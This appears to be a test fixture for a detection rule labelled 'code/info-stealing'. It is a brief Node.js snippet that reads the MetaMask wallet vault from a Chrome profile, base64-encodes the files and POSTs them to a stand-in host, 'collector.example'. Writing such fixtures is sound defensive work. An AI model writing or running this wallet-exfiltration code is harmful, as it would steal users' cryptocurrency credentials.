const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

// The MetaMask extension's vault, read out of the Chrome profile and posted away (defanged host).
// ruleid: code/info-stealing
const vault = path.join(os.homedir(), 'AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn');
const files = fs.existsSync(vault) ? fs.readdirSync(vault).map((f) => fs.readFileSync(path.join(vault, f)).toString('base64')) : [];
// ruleid: code/info-stealing
const req = https.request({ hostname: 'collector.example', path: '/v', method: 'POST' });
// ruleid: code/info-stealing
req.end(JSON.stringify(files));
